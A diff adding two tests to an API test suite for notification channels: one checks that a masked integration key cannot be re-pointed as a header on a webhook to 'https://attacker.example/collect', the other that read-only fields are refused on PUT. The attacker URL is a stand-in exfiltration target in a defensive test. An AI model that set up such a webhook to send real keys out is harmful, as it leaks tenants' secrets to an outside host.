@@ -186,6 +186,28 @@ test('a masked header PUT back with a new url is 400 naming the header, and the 
   t.deepEqual((await app.platform.eventStore.readStream(`channel-${id}`)).at(-1)!.data.config, hook.config);
 });
 
+test('a masked integration key PUT back with a new type is 400 naming the field; nothing is recorded', async (t) => {
+  const caller = app.newTenant();
+  const created = await app.request('POST', '/notification-channels', { caller, body: pager });
+  const id = created.body.data.id as string;
+  const asHook = { name: pager.name, type: 'webhook', config: { url: 'https://attacker.example/collect', method: 'POST', headers: { 'X-Key': created.body.data.config.integration_key } } };
+  const refused = await app.request('PUT', `/notification-channels/${id}`, { caller, body: asHook });
+  t.is(refused.status, 400);
+  t.deepEqual(refused.body.errors.map((e: { path: string }) => e.path), ['/config/headers/X-Key']);
+  t.deepEqual((await app.platform.eventStore.readStream(`channel-${id}`)).map((e) => e.type), ['ChannelCreated']);
+});
+
+test('a GET answer PUT back whole is 400 for its read-only fields (the README says so); without them it is 200', async (t) => {
+  const caller = app.newTenant();
+  const id = (await app.request('POST', '/notification-channels', { caller, body: pager })).body.data.id as string;
+  const read = (await app.request('GET', `/notification-channels/${id}`, { caller })).body.data;
+  const whole = await app.request('PUT', `/notification-channels/${id}`, { caller, body: read });
+  t.is(whole.status, 400);
+  t.regex(JSON.stringify(whole.body.errors), /created_at/);
+  const { id: _id, created_at: _c, updated_at: _u, ...writable } = read;
+  t.is((await app.request('PUT', `/notification-channels/${id}`, { caller, body: writable })).status, 200);
+});
+
 test('a chat webhook_url is answered masked; PUT back masked it keeps the stored URL', async (t) => {
   const caller = app.newTenant();
   const chat = { name: 'Ops chat', type: 'chat', config: { webhook_url: 'https://hooks.slack.com/services/T0/B0/abcdefSECRET', channel_name: '#ops' } };
